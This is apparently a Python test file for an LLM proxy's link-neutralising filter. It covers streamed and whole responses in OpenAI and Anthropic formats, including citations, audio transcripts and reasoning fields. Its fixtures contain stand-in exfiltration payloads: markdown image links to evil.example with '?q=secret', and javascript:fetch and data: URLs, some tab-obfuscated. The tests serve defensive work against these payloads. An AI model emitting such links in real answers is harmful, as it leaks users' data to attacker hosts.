"""Answers on their way out, in either dialect: links made inert however the stream is cut, canaries heard."""

from itertools import pairwise
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kyozon.domain.requests import Dialect
from kyozon.governance.links import LinkRules, neutralised
from kyozon.http.outgoing import Outgoing
from kyozon.ports.provider import Piece
from tests.fakes.scripted import piece, reported

RULES = LinkRules("mark", frozenset({"docs.example"}))
BAD, INERT = "![x](https://evil.example/q)", "![x] (https[:]//evil.example/q)"
TEXTS = st.lists(
    st.sampled_from([BAD, "https://docs.example/a ", "[a]", "(", "plain ", "<b>", "h", "<img src=x>", "。"]), max_size=6
)


def cut(text: str, places: list[int]) -> list[str]:
    ends = sorted({min(place, len(text)) for place in places} | {0, len(text)})
    return [text[begin:end] for begin, end in pairwise(ends)]


def openai(parts: list[str], *, ended: bool = True) -> list[Piece]:
    return [
        piece(role="assistant"),
        *(piece(part) for part in parts),
        *([piece(finish="stop")] if ended else []),
        reported(None),
    ]


def anthropic(parts: list[str]) -> list[Piece]:
    def event(name: str, **fields: Any) -> Piece:
        return Piece(msgspec.json.encode({"type": name, **fields}), name)

    deltas = [event("content_block_delta", index=1, delta={"type": "text_delta", "text": part}) for part in parts]
    start = event("content_block_start", index=1, content_block={"type": "text", "text": ""})
    return [event("message_start"), start, *deltas, event("content_block_stop", index=1), event("message_stop")]


def sent(out: Outgoing, pieces: list[Piece]) -> list[Piece]:
    return [passed for one in pieces for passed in out.feed(one)] + list(out.finish())


def text_of(pieces: list[Piece]) -> str:
    found = ""
    for one in pieces:
        body = msgspec.json.decode(one.payload)
        found += body.get("delta", {}).get("text", "") + "".join(
            c["delta"].get("content") or "" for c in body.get("choices", [])
        )
    return found


@given(text=TEXTS.map("".join), places=st.lists(st.integers(0, 120), max_size=6), ended=st.booleans())
def test_a_stream_says_the_same_as_the_whole_however_it_is_cut(text: str, places: list[int], *, ended: bool) -> None:
    parts = cut(text, places)

    assert text_of(sent(Outgoing("openai", RULES, None), openai(parts, ended=ended))) == neutralised(text, RULES)
    assert text_of(sent(Outgoing("anthropic", RULES, None), anthropic(parts))) == neutralised(text, RULES)


def test_the_rest_comes_before_the_end_of_its_block_or_choice() -> None:
    native = sent(Outgoing("anthropic", RULES, None), anthropic(["See htt"]))
    chunks = [msgspec.json.decode(one.payload) for one in sent(Outgoing("openai", RULES, None), openai(["See htt"]))]

    assert [one.event for one in native[-4:]] == [
        "content_block_delta",
        "content_block_delta",
        "content_block_stop",
        "message_stop",
    ]
    last = next(chunk for chunk in chunks if chunk["choices"] and chunk["choices"][0]["finish_reason"])
    assert last["choices"][0]["delta"]["content"] == "htt"


@given(text=TEXTS.map("".join), place=st.integers(0, 120))
def test_words_that_a_block_starts_with_are_looked_at_like_any_others(text: str, place: int) -> None:
    first, start, *rest = anthropic([text[place:]] if text[place:] else [])
    begun = {**msgspec.json.decode(start.payload), "content_block": {"type": "text", "text": text[:place]}}
    pieces = sent(Outgoing("anthropic", RULES, None), [first, Piece(msgspec.json.encode(begun), start.event), *rest])

    assert text_of(pieces) == neutralised(text, RULES)
    assert pieces[1].payload == start.payload


def test_choices_and_fields_are_kept_apart() -> None:
    def chunk(index: int, **delta: str) -> Piece:
        return Piece(msgspec.json.encode({"id": "c", "choices": [{"index": index, "delta": delta, "finish_reason": None}]}))

    pieces = [
        chunk(0, content="https:"),
        chunk(1, content="//evil.example "),
        chunk(0, reasoning_content="//evil.example "),
    ]
    out = Outgoing("openai", RULES, None)
    found = sent(out, [*pieces, chunk(0, content="//evil.example ")])

    assert text_of(found) == "//evil.example https[:]//evil.example "


@pytest.mark.parametrize(
    ("dialect", "body", "path"),
    [
        ("openai", {"choices": [{"message": {"content": BAD}}]}, ("choices", 0, "message", "content")),
        (
            "openai",
            {"choices": [{"message": {"content": None, "reasoning_content": BAD}}]},
            ("choices", 0, "message", "reasoning_content"),
        ),
        (
            "openai",
            {"choices": [{"message": {"content": [{"type": "text", "text": BAD}]}}]},
            ("choices", 0, "message", "content", 0, "text"),
        ),
        (
            "openai",
            {"choices": [{"message": {"content": None, "audio": {"id": "a", "data": "//8=", "transcript": BAD}}}]},
            ("choices", 0, "message", "audio", "transcript"),
        ),
        ("anthropic", {"content": [{"type": "text", "text": BAD}]}, ("content", 0, "text")),
    ],
)
def test_whole_answers(dialect: Dialect, body: dict[str, Any], path: tuple[Any, ...]) -> None:
    found = msgspec.json.decode(Outgoing(dialect, RULES, None).whole(msgspec.json.encode(body)))
    for part in path:
        found = found[part]

    assert found == INERT


def citation(url: str, title: str = "") -> dict[str, Any]:
    cited = {"url": url, "title": title, "start_index": 0, "end_index": 4}
    return {"content": "Seen", "annotations": [{"type": "url_citation", "url_citation": cited}]}


@pytest.mark.parametrize(
    ("url", "mode", "shown"),
    [
        ("https://evil.example/?q=secret", "mark", "https[:]//evil.example/?q=secret"),
        ("https://evil.example/?q=secret", "strip", "[link removed]"),
        ("//evil.example/?q=secret", "mark", "[link removed]"),
        ("javascript:fetch('//evil.example')", "mark", "[link removed]"),
        ("javascript:fetch('https://evil.example')", "mark", "[link removed]"),
        ("java\tscript:fetch('/q')", "mark", "[link removed]"),
        ("/\t/evil.example/?q=secret", "mark", "[link removed]"),
        ("https://docs.example\t.evil.example/", "mark", "[link removed]"),
        ("//evil.example/?q=https://docs.example", "mark", "[link removed]"),
        ("//evil.example/?q=https://evil.example", "strip", "[link removed]"),
        ("data:text/html,<img src=https://evil.example>", "strip", "[link removed]"),
        ("/files/a plot.png", "mark", "/files/a plot.png"),
        ("https://docs.example/a?b=c#d", "mark", "https://docs.example/a?b=c#d"),
        ("/files/plot.png", "strip", "/files/plot.png"),
    ],
)
def test_citations_whole_and_streamed(url: str, mode: Any, shown: str) -> None:
    rules = LinkRules(mode, frozenset({"docs.example"}))
    whole = msgspec.json.encode({"choices": [{"index": 0, "message": citation(url)}]})
    chunk = msgspec.json.encode({"choices": [{"index": 0, "delta": citation(url), "finish_reason": None}]})

    message = msgspec.json.decode(Outgoing("openai", rules, None).whole(whole))["choices"][0]["message"]
    (passed,) = sent(Outgoing("openai", rules, None), [Piece(chunk)])
    for found in (message, msgspec.json.decode(passed.payload)["choices"][0]["delta"]):
        assert found["annotations"][0]["url_citation"]["url"] == shown
        assert found["content"] == "Seen"


def test_the_title_of_a_citation_is_text_like_any_other() -> None:
    whole = msgspec.json.encode({"choices": [{"index": 0, "message": citation("/a", BAD)}]})
    message = msgspec.json.decode(Outgoing("openai", RULES, None).whole(whole))["choices"][0]["message"]
    assert message["annotations"][0]["url_citation"]["title"] == INERT


@pytest.mark.parametrize(
    ("field", "said", "shown"),
    [
        ("url", "https://evil.example/?q=secret", "https[:]//evil.example/?q=secret"),
        ("url", "//evil.example/?q=secret", "[link removed]"),
        ("url", "https://docs.example/a", "https://docs.example/a"),
        ("source", "kb:article-7", "kb:article-7"),
        *((field, BAD, INERT) for field in ("title", "source", "document_title", "cited_text")),
    ],
)
def test_anthropics_citations_whole_and_streamed(field: str, said: str, shown: str) -> None:
    cited = {"type": "web_search_result_location", "encrypted_index": "e", field: said}
    block = {"type": "text", "text": "Seen", "citations": [cited]}
    delta = {"type": "citations_delta", "citation": cited}
    whole, start, grown = (
        msgspec.json.encode(body)
        for body in (
            {"type": "message", "content": [block]},
            {"type": "content_block_start", "index": 0, "content_block": {**block, "text": ""}},
            {"type": "content_block_delta", "index": 0, "delta": delta},
        )
    )
    message = msgspec.json.decode(Outgoing("anthropic", RULES, None).whole(whole))
    pieces = [Piece(start, "content_block_start"), Piece(grown, "content_block_delta")]
    begun, said_later = (msgspec.json.decode(one.payload) for one in sent(Outgoing("anthropic", RULES, None), pieces))
    places = (
        message["content"][0]["citations"][0],
        begun["content_block"]["citations"][0],
        said_later["delta"]["citation"],
    )
    assert places == ({**cited, field: shown},) * 3


@given(text=TEXTS.map("".join), places=st.lists(st.integers(0, 120), max_size=6), ended=st.booleans())
def test_what_is_spoken_is_looked_at_however_it_is_cut(text: str, places: list[int], *, ended: bool) -> None:
    def chunk(delta: dict[str, Any], finish: str | None = None) -> Piece:
        return Piece(msgspec.json.encode({"id": "c", "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}))

    parts = [chunk({"audio": {"id": "a", "transcript": part}}) for part in cut(text, places)]
    sound = chunk({"audio": {"data": "//8="}})
    pieces = sent(Outgoing("openai", RULES, None), [*parts, sound, *([chunk({}, "stop")] if ended else [])])

    said = [msgspec.json.decode(one.payload)["choices"][0]["delta"].get("audio", {}) for one in pieces]
    assert "".join(one.get("transcript", "") for one in said) == neutralised(text, RULES)
    assert "//8=" in [one.get("data") for one in said]


@pytest.mark.parametrize(
    ("dialect", "body"),
    [
        ("openai", b'{ "choices": [{"message": {"content": "See https://docs.example/a."}}],  "new": 1.0 }'),
        (
            "openai",
            b'{"choices":[{"message":{"tool_calls":[{"function":{"arguments":"{\\"url\\":\\"https://evil.example\\"}"}}]}}]}',
        ),
        ("anthropic", b'{"content": [{"type":"thinking","thinking":"https://evil.example","signature":"s"}]}'),
    ],
)
def test_what_is_not_changed_keeps_its_bytes(dialect: Dialect, body: bytes) -> None:
    assert Outgoing(dialect, RULES, None).whole(body) is body


def test_turned_off_nothing_is_touched() -> None:
    out, pieces = Outgoing("openai", None, None), openai([BAD])

    assert [one is given for one, given in zip(sent(out, pieces), pieces, strict=True)] == [True] * len(pieces)
    assert out.whole(b"no json") == b"no json"
